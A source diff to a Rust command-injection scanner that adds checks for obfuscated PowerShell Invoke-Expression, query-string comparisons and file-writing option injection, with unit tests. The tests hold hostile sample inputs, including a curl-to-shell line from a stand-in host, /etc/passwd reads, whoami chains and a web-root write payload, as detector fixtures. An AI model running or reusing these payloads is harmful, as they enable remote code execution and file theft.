@@ -1652,12 +1652,46 @@ fn looks_like_domain(tok: &str) -> bool {
 fn looks_like_host(tok: &str) -> bool {
     // evil.example/p, example.com:8080/x
     let host = tok.split(['/', ':']).next().unwrap_or("");
+    // `.venv/bin/activate`, `../lib/x`: a hidden or parent directory, no
+    // host (every label of a host name has a letter or digit).
     tok.contains('/')
         && host.contains('.')
+        && host.split('.').all(|l| !l.is_empty())
         && host
             .rsplit('.')
             .next()
             .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
+}
+
+/// Whether the `&` at `amp` joins a query parameter (`exclude=nuts`, no
+/// blank since the `?` or `&` before it) to a comparison of a name with a
+/// number (`time<30`, `price>=5`) that ends the value or the parameter.
+fn query_comparison(b: &[u8], seg_start: usize, amp: usize, seg_end: usize) -> bool {
+    let param_start = b[seg_start..amp]
+        .iter()
+        .rposition(|&c| matches!(c, b'?' | b'&') || c.is_ascii_whitespace())
+        .map_or(seg_start, |p| seg_start + p);
+    let param = &b[param_start..amp];
+    if !matches!(param.first(), Some(b'?' | b'&')) || !param.contains(&b'=') {
+        return false;
+    }
+    let mut k = amp + 1;
+    let name = k;
+    while k < seg_end && (b[k].is_ascii_alphanumeric() || matches!(b[k], b'_' | b'.' | b'-')) {
+        k += 1;
+    }
+    if k == name || k >= seg_end || !matches!(b[k], b'<' | b'>') {
+        return false;
+    }
+    k += 1;
+    if k < seg_end && b[k] == b'=' {
+        k += 1;
+    }
+    let num = k;
+    while k < seg_end && (b[k].is_ascii_digit() || b[k] == b'.') {
+        k += 1;
+    }
+    k > num && (k == seg_end || b[k] == b'&' || b[k] == b'#' || b[k].is_ascii_whitespace())
 }
 
 /// Is `b` a byte that ends a command's argument run?
@@ -3615,6 +3649,12 @@ fn scan_segment(
                     i = j;
                     continue;
                 }
+                // `?exclude=nuts&time<30`: a filter on a number after a
+                // query parameter, not a command reading a file named `30`.
+                if x == b'&' && j == i + 1 && query_comparison(b, seg_start, i, seg_end) {
+                    i = j;
+                    continue;
+                }
                 // `TclWin(Get|Set)SockOpt`: alternatives spelled inside a name.
                 if x == b'|' && j == i + 1 && name_alternation(b, seg_start, i, seg_end) {
                     i = j;
@@ -4462,6 +4502,94 @@ fn ps_invoke_built_name(text: &str, hits: &mut Vec<Hit>) {
             && inner.iter().any(|c| matches!(c, b'*' | b'?'));
         if (quoted && (concat || format)) || lookup {
             push(hits, text, R_WINDOWS, op, close + 1);
+        }
+    }
+    ps_invoke_built_variable(text, hits);
+}
+
+/// Whether `expr` builds a string from quoted pieces: `'Invo'+'ke'`,
+/// `"{1}{0}" -f 'ex','i'`, `-join`, `[char]` codes.
+fn ps_built_string(expr: &[u8]) -> bool {
+    let squeezed: Vec<u8> = expr
+        .iter()
+        .copied()
+        .filter(|c| !matches!(c, b' ' | b'\t' | b'(' | b')'))
+        .collect();
+    let lower = expr.to_ascii_lowercase();
+    squeezed
+        .windows(3)
+        .any(|w| matches!(w[0], b'\'' | b'"') && w[1] == b'+' && matches!(w[2], b'\'' | b'"'))
+        || (expr.iter().any(|c| matches!(c, b'\'' | b'"'))
+            && (memchr::memmem::find(&lower, b" -f ").is_some()
+                || memchr::memmem::find(&lower, b"-join").is_some()))
+        || memchr::memmem::find(&lower, b"[char]").is_some()
+}
+
+/// The same name built first into a variable and called through it:
+/// `$v=('Invo'+'ke-Expre'+'ssion');&$v (...)`, `$c = "{1}{0}" -f 'x','ie'; . $c`.
+fn ps_invoke_built_variable(text: &str, hits: &mut Vec<Hit>) {
+    let b = text.as_bytes();
+    // Each call looks back at most 1 KiB, and only so many calls are looked
+    // at: the cost stays linear on a value full of `&$x`.
+    let mut budget = 32;
+    for d in memchr::memchr_iter(b'$', b) {
+        // `&$v` or `. $v` starting a statement.
+        let mut q = d;
+        while q > 0 && matches!(b[q - 1], b' ' | b'\t') {
+            q -= 1;
+        }
+        if q == 0 || !matches!(b[q - 1], b'&' | b'.') {
+            continue;
+        }
+        let op = q - 1;
+        let lead = b[..op]
+            .iter()
+            .rev()
+            .find(|&&c| c != b' ' && c != b'\t')
+            .copied();
+        if !matches!(lead, None | Some(b';' | b'\n' | b'(' | b'{' | b'|'))
+            || (op > 0 && matches!(b[op - 1], b'&' | b'.'))
+        {
+            continue;
+        }
+        let mut e = d + 1;
+        while e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'_') && e - d <= 64 {
+            e += 1;
+        }
+        let name = &b[d..e];
+        if name.len() < 2 {
+            continue;
+        }
+        if budget == 0 {
+            return;
+        }
+        budget -= 1;
+        // An assignment of that variable earlier in the value.
+        let mut from = op.saturating_sub(1024);
+        while let Some(o) = memchr::memmem::find(&b[from..op], name) {
+            let at = from + o;
+            from = at + 1;
+            let mut k = at + name.len();
+            if b.get(k)
+                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
+            {
+                continue;
+            }
+            while k < op && matches!(b[k], b' ' | b'\t') {
+                k += 1;
+            }
+            if k >= op || b[k] != b'=' || b.get(k + 1) == Some(&b'=') {
+                continue;
+            }
+            let rhs_end = b[k + 1..op]
+                .iter()
+                .position(|&c| matches!(c, b';' | b'\n'))
+                .map_or(op, |p| k + 1 + p)
+                .min(k + 1 + 200);
+            if ps_built_string(&b[k + 1..rhs_end]) {
+                push(hits, text, R_WINDOWS, at, e);
+                return;
+            }
         }
     }
 }
@@ -5930,7 +6058,22 @@ fn scan_argument_injection(text: &str, hits: &mut Vec<Hit>) {
                 | "brotli"
                 | "unpigz"
         );
-        if runs && !arg.is_empty() && !compressor && command_argument(arg) {
+        // `sort=--output=/var/www/html/s.php`: a value that is an option
+        // writing its file into a web root or a system directory, or a
+        // server-side script (GNU sort's `--output`, curl's, wget's).
+        let writes = matches!(
+            name.to_ascii_lowercase().as_str(),
+            "output"
+                | "output-document"
+                | "output-file"
+                | "append-output"
+                | "log-file"
+                | "logfile"
+                | "dump-header"
+                | "write-out-file"
+        ) && file_argument(arg)
+            && web_or_system_file(arg);
+        if (runs && !arg.is_empty() && !compressor && command_argument(arg)) || writes {
             last_end = e;
             push(hits, text, R_ARGINJ, p, trim_end(text, p, e));
         }
@@ -6245,6 +6388,50 @@ mod tests {
 
     fn flagged(text: &str) -> bool {
         !rules(text).is_empty()
+    }
+
+    #[test]
+    fn hidden_directories_are_no_hosts() {
+        assert!(!flagged(
+            "## Setup\n\n```bash\npython -m venv .venv\nsource .venv/bin/activate\npip install -r requirements.txt\n```"
+        ));
+        assert!(!looks_like_host(".venv/bin/activate"));
+        assert!(!looks_like_host("../lib/x.so"));
+        assert!(looks_like_host("evil.example/p"));
+        assert!(flagged("```sh\nsource <(curl -s evil.example/x.sh)\n```"));
+    }
+
+    #[test]
+    fn query_filters_are_no_redirections() {
+        assert!(!flagged(
+            "https://www.example.org/recipes?ingredient=sage&exclude=nuts&time<30"
+        ));
+        assert!(!flagged("/search?q=shoes&price>=50&size<12"));
+        assert!(flagged("/search?q=shoes&cat</etc/passwd"));
+        assert!(flagged("q=x&id>/tmp/x;whoami"));
+        assert!(flagged("127.0.0.1&time<30 whoami"));
+    }
+
+    #[test]
+    fn powershell_names_built_into_variables() {
+        assert_eq!(
+            rules("$v=('Invo'+'ke-Expre'+'ssion');&$v (\"wh\"+\"oami /all\")"),
+            ["cmdi-windows"]
+        );
+        assert!(rules("$c = \"{1}{0}\" -f 'x','ie'; . $c 'calc'").contains(&"cmdi-windows"));
+        // A variable holding a path, called: ordinary scripting.
+        assert!(!flagged("$exe = 'C:\\Tools\\build.exe'; & $exe --release"));
+        assert!(!flagged("$name = 'World'; Write-Host \"Hello $name\""));
+    }
+
+    #[test]
+    fn values_that_are_options_writing_into_a_web_root() {
+        assert!(rules("sort=--output=/var/www/html/s.php").contains(&"cmdi-argument-injection"));
+        assert!(
+            rules("--output-document=/srv/app/public/x.jsp").contains(&"cmdi-argument-injection")
+        );
+        assert!(!flagged("out=--output=report.csv"));
+        assert!(!flagged("--output=/tmp/report.csv"));
     }
 
     // Hostile shapes that once took quadratic time: each runs at a size
